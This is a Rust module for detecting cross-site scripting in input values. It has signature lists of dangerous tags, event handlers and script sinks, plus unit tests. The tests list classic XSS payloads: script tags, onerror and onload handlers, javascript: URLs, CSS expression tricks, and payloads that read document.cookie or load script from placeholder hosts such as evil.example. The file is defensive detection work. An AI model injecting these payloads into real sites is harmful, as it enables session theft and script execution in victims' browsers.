//! Cross-site scripting detection: scan the value for HTML tags and attributes that run
//! script (dangerous elements, event-handler attributes, script URLs, CSS expressions), also
//! when the value starts inside an attribute (a quote, then a new handler attribute).

use memchr::memmem;

const DANGEROUS_TAGS: &[&[u8]] = &[
    b"script",
    b"style",
    b"iframe",
    b"frame",
    b"frameset",
    b"object",
    b"embed",
    b"applet",
    b"base",
    b"meta",
    b"link",
    b"xml",
    b"xss",
    b"import",
    b"svg",
    b"math",
    b"isindex",
    b"vmlframe",
    b"template",
    b"portal",
];

/// IE data-binding attributes, which pull markup from elsewhere into the element.
const DATA_BINDING: &[&[u8]] = &[
    b"datasrc",
    b"datafld",
    b"dataformatas",
    b"ev:event",
    b"ev:handler",
];

const URL_ATTRIBUTES: &[&[u8]] = &[
    b"src",
    b"href",
    b"action",
    b"formaction",
    b"data",
    b"xlink:href",
    b"background",
    b"dynsrc",
    b"lowsrc",
    b"poster",
    b"codebase",
    b"srcdoc",
    b"to",
    b"values",
    b"from",
    b"by",
];

const EVENTS: &[&str] = &[
    "abort",
    "activate",
    "afterprint",
    "animationend",
    "animationiteration",
    "animationstart",
    "beforeactivate",
    "beforecopy",
    "beforecut",
    "beforeprint",
    "beforeunload",
    "begin",
    "blur",
    "bounce",
    "canplay",
    "change",
    "click",
    "contextmenu",
    "copy",
    "cut",
    "dblclick",
    "drag",
    "dragend",
    "dragenter",
    "dragleave",
    "dragover",
    "dragstart",
    "drop",
    "end",
    "ended",
    "error",
    "focus",
    "focusin",
    "focusout",
    "hashchange",
    "input",
    "invalid",
    "keydown",
    "keypress",
    "keyup",
    "load",
    "loadeddata",
    "loadstart",
    "message",
    "mousedown",
    "mouseenter",
    "mouseleave",
    "mousemove",
    "mouseout",
    "mouseover",
    "mouseup",
    "mousewheel",
    "pageshow",
    "paste",
    "pointerdown",
    "pointerenter",
    "pointerover",
    "pointerup",
    "play",
    "playing",
    "popstate",
    "progress",
    "readystatechange",
    "repeat",
    "reset",
    "resize",
    "scroll",
    "search",
    "select",
    "show",
    "start",
    "submit",
    "toggle",
    "touchstart",
    "touchend",
    "touchmove",
    "transitionend",
    "unload",
    "wheel",
    "finish",
    "auxclick",
    "beforetoggle",
    "cuechange",
    "durationchange",
    "emptied",
    "formdata",
    "loadedmetadata",
    "pause",
    "ratechange",
    "seeked",
    "seeking",
    "stalled",
    "suspend",
    "timeupdate",
    "volumechange",
    "waiting",
    "webkitanimationend",
    "webkittransitionend",
    "securitypolicyviolation",
];

/// Whether `value` looks like cross-site scripting.
pub fn is_xss(value: &[u8]) -> bool {
    // Every signature below needs one of these bytes; most benign values have none.
    if !value
        .iter()
        .any(|b| matches!(b, b'<' | b'(' | b'`' | b'=' | b':' | b'@' | b'.' | b'['))
    {
        return false;
    }
    let s: Vec<u8> = value
        .iter()
        .filter(|&&b| b != 0)
        .map(u8::to_ascii_lowercase)
        .collect();
    script_url(&s, 0) || tags(&s) || attribute_breakout(&s) || css_expression(&s) || script_call(&s)
}

/// JavaScript functions and properties whose use in a value means script, not text.
const SINKS: &[&[u8]] = &[
    b"alert",
    b"confirm",
    b"prompt",
    b"eval",
    b"settimeout",
    b"setinterval",
    b"execscript",
    b"fromcharcode",
    b"atob",
    b"constructor",
    b"print",
    b"importscripts",
];

const DOM_PROPERTIES: &[&[u8]] = &[
    b"document.cookie",
    b"document.domain",
    b"document.write",
    b"document.location",
    b"window.location",
    b"document[\"cookie\"]",
    b"document['cookie']",
    b"location.href=",
    b"innerhtml=",
    b"document.body",
];

/// A call of a script sink (`alert(1)`, `(alert)(1)`, `alert?.(1)`, ``alert`1` ``,
/// `confirm.call(null,1)`) or a DOM property that only script reads.
fn script_call(s: &[u8]) -> bool {
    let dom_object = [&b"document"[..], b"location", b"innerhtml"]
        .iter()
        .any(|w| memmem::find(s, w).is_some());
    if dom_object && DOM_PROPERTIES.iter().any(|p| memmem::find(s, p).is_some()) {
        return true;
    }
    // A call needs `(` or a backtick after the sink.
    if !s.iter().any(|&b| b == b'(' || b == b'`') {
        return false;
    }
    for sink in SINKS {
        for at in memmem::find_iter(s, sink) {
            let boundary = at == 0 || !(s[at - 1].is_ascii_alphanumeric() || s[at - 1] == b'_');
            if !boundary {
                continue;
            }
            let mut j = at + sink.len();
            while j < s.len()
                && matches!(s[j], b')' | b'?' | b'.')
                && !s[j..].starts_with(b".call")
                && !s[j..].starts_with(b".apply")
            {
                j += 1;
            }
            let rest = &s[j..];
            if rest.starts_with(b"(")
                || rest.starts_with(b"`")
                || rest.starts_with(b".call(")
                || rest.starts_with(b".apply(")
            {
                // `print (` in prose is rare but exists: require an argument-like next byte.
                if *sink == b"print" && !rest.starts_with(b"()") {
                    continue;
                }
                return true;
            }
        }
    }
    false
}

fn is_space(b: u8) -> bool {
    matches!(b, b' ' | b'\t' | b'\n' | b'\r' | 0x0b | 0x0c | b'/')
}

/// A `javascript:` / `vbscript:` / `livescript:` / `data:text/html` URL at `from`, tolerating
/// whitespace and control characters inside the scheme, as browsers do.
fn script_url(s: &[u8], from: usize) -> bool {
    let compact: Vec<u8> = s[from..]
        .iter()
        .copied()
        .skip_while(|&b| b <= b' ' || b == b'"' || b == b'\'' || b == b'`')
        .filter(|&b| b > b' ')
        .take(64)
        .collect();
    let scheme = [&b"javascript:"[..], b"vbscript:", b"livescript:"]
        .into_iter()
        .find(|p| compact.starts_with(p));
    if let Some(scheme) = scheme {
        // Prose such as "JavaScript: the basics" is not a URL: require code after the scheme.
        return compact[scheme.len()..].iter().any(|b| {
            matches!(
                b,
                b'(' | b'`' | b'=' | b'\'' | b'"' | b';' | b'+' | b'[' | b'%' | b'&'
            )
        });
    }
    compact.starts_with(b"data:text/html")
        || compact.starts_with(b"data:image/svg")
        || compact.starts_with(b"data:application/x")
}

/// Every `<tag ...>` in `s`: a dangerous element, an event handler or a script URL attribute.
fn tags(s: &[u8]) -> bool {
    let mut i = 0;
    while let Some(p) = s[i..].iter().position(|&b| b == b'<') {
        let start = i + p + 1;
        i = start;
        let mut j = start;
        if s.get(j) == Some(&b'/') {
            j += 1;
        }
        let name_start = j;
        while j < s.len() && (s[j].is_ascii_alphanumeric() || matches!(s[j], b':' | b'-' | b'_')) {
            j += 1;
        }
        let name = &s[name_start..j];
        if name.is_empty() || !name[0].is_ascii_alphabetic() {
            // Processing instructions and declarations that load or define content.
            const DECLARATIONS: [&[u8]; 4] = [
                b"?import",
                b"?xml-stylesheet",
                b"?xml:namespace",
                b"!entity",
            ];
            let rest = &s[name_start..];
            if DECLARATIONS.iter().any(|d| rest.starts_with(d))
                || (rest.starts_with(b"!doctype") && rest.contains(&b'['))
            {
                return true;
            }
            // `<// style=...>`: a nameless tag whose attributes browsers still read.
            if name_start > start && s.get(j).is_some_and(|&b| b == b'/' || is_space(b)) {
                let (found, end) = attributes(s, j);
                if found {
                    return true;
                }
                i = end.clamp(start, s.len());
            }
            continue;
        }
        if name.contains(&b':') && name_start == start {
            // Namespaced elements (`svg:`, `xsl:`, `t:`) bring their own script semantics.
            return true;
        }
        let local = name.rsplit(|&b| b == b':').next().unwrap_or(name);
        if DANGEROUS_TAGS.contains(&local) && name_start == start {
            return true;
        }
        let (found, end) = attributes(s, j);
        if found {
            return true;
        }
        // Resume after the attributes: every byte is scanned a bounded number of times.
        i = end.clamp(start, s.len());
    }
    false
}

/// The attributes of a tag from `i` until `>`, the next `<` or the end: handlers and script
/// URLs. Returns whether one was found and where the scan stopped.
fn attributes(s: &[u8], mut i: usize) -> (bool, usize) {
    while i < s.len() && s[i] != b'>' && s[i] != b'<' {
        while i < s.len() && (is_space(s[i]) || s[i] == b'"' || s[i] == b'\'') {
            i += 1;
        }
        let start = i;
        while i < s.len() && !is_space(s[i]) && !matches!(s[i], b'=' | b'>') {
            i += 1;
        }
        let name = &s[start..i];
        if name.is_empty() {
            i = (i + 1).min(s.len());
            continue;
        }
        if is_handler(name)
            || (name.len() > 4
                && name.starts_with(b"on")
                && name[2..].iter().all(u8::is_ascii_alphabetic))
        {
            return (true, i);
        }
        while i < s.len() && matches!(s[i], b' ' | b'\t' | b'\n' | b'\r') {
            i += 1;
        }
        if s.get(i) == Some(&b'=') {
            i += 1;
            if URL_ATTRIBUTES.contains(&name) && script_url(s, i) {
                return (true, i);
            }
            if name == b"style" && css_expression(&s[i..s.len().min(i + 512)]) {
                return (true, i);
            }
            if DATA_BINDING.contains(&name) {
                return (true, i);
            }
            i = skip_value(s, i);
        }
    }
    (false, i)
}

fn skip_value(s: &[u8], mut i: usize) -> usize {
    while i < s.len() && matches!(s[i], b' ' | b'\t') {
        i += 1;
    }
    match s.get(i) {
        Some(&q @ (b'"' | b'\'' | b'`')) => s[i + 1..]
            .iter()
            .position(|&b| b == q)
            .map_or(s.len(), |p| i + p + 2),
        _ => {
            while i < s.len() && !is_space(s[i]) && s[i] != b'>' {
                i += 1;
            }
            i
        }
    }
}

fn is_handler(name: &[u8]) -> bool {
    name.len() > 4
        && name.starts_with(b"on")
        && std::str::from_utf8(&name[2..]).is_ok_and(|e| EVENTS.contains(&e))
}

/// The value closes an attribute (quote) and adds an event handler: `" onmouseover=alert(1)`.
fn attribute_breakout(s: &[u8]) -> bool {
    let mut i = 0;
    while let Some(p) = memmem::find(&s[i..], b"on") {
        let at = i + p;
        i = at + 2;
        let preceded = at > 0 && (is_space(s[at - 1]) || matches!(s[at - 1], b'"' | b'\'' | b'`'));
        if !preceded {
            continue;
        }
        let mut j = at;
        while j < s.len() && s[j].is_ascii_alphabetic() {
            j += 1;
        }
        i = j.max(i);
        let name = &s[at..j];
        while j < s.len() && matches!(s[j], b' ' | b'\t' | b'\n' | b'\r') {
            j += 1;
        }
        if s.get(j) == Some(&b'=')
            && is_handler(name)
            && s[..at].iter().any(|&b| matches!(b, b'"' | b'\'' | b'`'))
        {
            return true;
        }
    }
    false
}

/// CSS that runs script: `expression(`, `-moz-binding`, `behavior:` or `url(javascript:`.
fn css_expression(s: &[u8]) -> bool {
    // Every signature needs `(`, `@` or `:` (possibly CSS-escaped, which starts with `\\`).
    if !s.iter().any(|&b| matches!(b, b'(' | b'@' | b':' | b'\\')) {
        return false;
    }
    let decoded = crate::transform::Transform::CssDecode.apply(s);
    let compact: Vec<u8> = decoded
        .iter()
        .copied()
        .filter(|b| !b.is_ascii_whitespace() && *b != b'\\' && *b != b'\'' && *b != b'"')
        .map(|b| b.to_ascii_lowercase())
        .collect();
    let has = |needle: &[u8]| memmem::find(&compact, needle).is_some();
    has(b"expression(")
        || has(b"-moz-binding")
        || has(b"behavior:url")
        || has(b"behaviour:url")
        || has(b"binding:url")
        || has(b"url(javascript:")
        || has(b"url(vbscript:")
        || has(b"url(data:text/html")
        || has(b"@import")
}

#[cfg(test)]
mod tests {
    use super::*;

    fn xss(s: &str) -> bool {
        is_xss(s.as_bytes())
    }

    #[test]
    fn classic_payloads() {
        for p in [
            "<script>alert(1)</script>",
            "<SCRIPT SRC=//evil/x.js></SCRIPT>",
            "<img src=x onerror=alert(1)>",
            "<svg/onload=alert(1)>",
            "<body onload=alert('x')>",
            "\"><script>alert(document.cookie)</script>",
            "\" onmouseover=\"alert(1)",
            "' autofocus onfocus=alert(1) x='",
            "javascript:alert(1)",
            " JaVaScRiPt:alert(1)",
            "<a href=\"javascript:alert(1)\">x</a>",
            "<a href=\"jav\tascript:alert(1)\">x</a>",
            "<iframe src=\"data:text/html,<script>alert(1)</script>\">",
            "<div style=\"width: expression(alert(1))\">",
            "<object data=\"x.swf\">",
            "<details open ontoggle=alert(1)>",
            "<x/onpointerrawupdate=confirm(1)>",
            "'-alert(1)//",
            "(alert)(1)",
            "alert?.(document?.cookie)",
            "confirm.call(null,1)",
            "alert`1`",
            "__proto__[v-if]=_c.constructor('alert(1)')()",
            "> src onerror=confirm(1)<",
            "<style>@import'http://evil.example/x.css';</style>",
            "<div style=\"background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029'\\0029\">",
            "<// style=x:expression\\28write(1)\\29>",
            "<SPAN DATASRC=#I DATAFLD=C DATAFORMATAS=HTML></SPAN>",
            "<?import namespace=\"t\" implementation=\"#default#time2\">",
            "<svg:svg onload=x>",
            "<xsl:stylesheet version=\"1.0\">",
        ] {
            assert!(xss(p), "should detect {p:?}");
        }
    }

    #[test]
    fn benign_strings() {
        for s in [
            "a < b and c > d",
            "<b>bold</b> and <i>italic</i>",
            "I love online shopping",
            "Put the onion on top",
            "x<5",
            "see http://example.com/page?on=1",
            "email me at a@b.com",
            "script writers unite",
            "The JavaScript language",
            "JavaScript: Basics of JavaScript Language",
            "Please confirm (by email) your order",
            "Print (two copies) and sign",
            "a document about cookies",
            "<div style=\"color: red\">hi</div>",
            "ratio a:b < c:d",
            "<!DOCTYPE html>",
            "",
        ] {
            assert!(!xss(s), "false positive on {s:?}");
        }
    }
}
